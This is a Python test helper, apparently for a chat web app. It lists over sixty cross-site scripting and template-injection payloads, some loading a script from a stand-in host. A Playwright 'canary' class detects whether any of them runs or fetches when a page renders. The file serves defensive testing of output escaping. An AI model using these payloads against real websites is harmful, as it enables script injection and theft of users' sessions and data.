"""Texts that try to become code in a page; each would call `canary` or fetch from `canary.invalid` if it ran."""

from __future__ import annotations

from playwright.sync_api import Page

PAYLOADS = (
    "<script>canary(1)</script>",
    "<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>",
    "</script><script>canary(2)</script>",
    "</textarea><script>canary(3)</script>",
    "</title><script>canary(4)</script>",
    "--><script>canary(5)</script><!--",
    "<scr<script>ipt>canary(6)</scr</script>ipt>",
    "<script\x0c>canary(7)</script\x0c>",
    "<img src=x onerror=canary(8)>",
    "<img src=//canary.invalid/pixel.png>",
    "<img src=`x`onerror=canary(9)>",
    "<img/src/onerror=canary(10)>",
    '<img src="x" onerror="&#99;anary(11)">',
    '"><img src=x onerror=canary(12)>',
    "'><img src=x onerror=canary(13)>",
    '" onmouseover="canary(14)" autofocus onfocus="canary(15)',
    "' onfocus='canary(16)' autofocus tabindex=1 x='",
    "<svg onload=canary(17)>",
    "<svg><script>canary(18)</script></svg>",
    "<svg><animate onbegin=canary(19) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:canary(20)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary(21)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary(22)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary(23)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=canary(24)>'>",
    "<iframe src=javascript:canary(25)></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.canary(26)>'></iframe>",
    "<object data=javascript:canary(27)></object>",
    "<embed src=javascript:canary(28)>",
    "<video><source onerror=canary(29)></video>",
    "<audio src=x onerror=canary(30)></audio>",
    "<details open ontoggle=canary(31)>x</details>",
    "<input autofocus onfocus=canary(32)>",
    "<select autofocus onfocus=canary(33)></select>",
    "<marquee onstart=canary(34)>x</marquee>",
    "<body onload=canary(35)>",
    "<form action=javascript:canary(36)><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(37)'>",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<style>@import '//canary.invalid/x.css';</style>",
    "<style>*{background:url(//canary.invalid/bg)}</style>",
    "<div style='background:url(//canary.invalid/div)'>x</div>",
    "<template><img src=x onerror=canary(38)></template>",
    "<custom-element onpointerenter=canary(39)>x</custom-element>",
    "<a href='javascript:canary(40)'>haz clic</a>",
    "javascript:canary(41)",
    "java\tscript:canary(42)",
    "data:text/html,<script>canary(43)</script>",
    "vbscript:canary(44)",
    "http://javascript:canary(45)@canary.invalid/",
    'https://canary.invalid/"onmouseover="canary(46)',
    "https://canary.invalid/'><img src=x onerror=canary(47)>",
    "[x](javascript:canary(48))",
    "![x](//canary.invalid/md.png)",
    "${canary(49)} {{constructor.constructor('canary(50)')()}} {% raw %} <%= canary(51) %>",
    "{{ config }} {{ 7*7 }} #{7*7} ${7*7}",
    "\u202e<script>canary(52)</script>",
    "&lt;script&gt;canary(53)&lt;/script&gt;",
    "\uff1cscript\uff1ecanary(54)\uff1c/script\uff1e",
    "%3Cscript%3Ecanary(55)%3C/script%3E",
    "<b hx-get='//canary.invalid/hx' hx-trigger=load>x</b>",
    "<b hx-on::load='canary(56)' data-hx-on:click='canary(57)'>x</b>",
    "<comanda-chat data-server=//canary.invalid></comanda-chat>",
)
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


class Canary:
    """Sits in `page` before it loads; sings when any payload runs or fetches."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.fetched: list[str] = []
        self.dialogs: list[str] = []
        page.add_init_script("window.sung = []; window.canary = number => window.sung.push(number);")
        page.on(
            "request", lambda request: self.fetched.append(request.url) if "canary.invalid" in request.url else None
        )
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def assert_silent(self) -> None:
        # Errors of images and loads of frames come a moment later than the text.
        self.page.wait_for_timeout(300)
        assert self.page.evaluate("window.sung") == []
        assert self.fetched == []
        assert self.dialogs == []
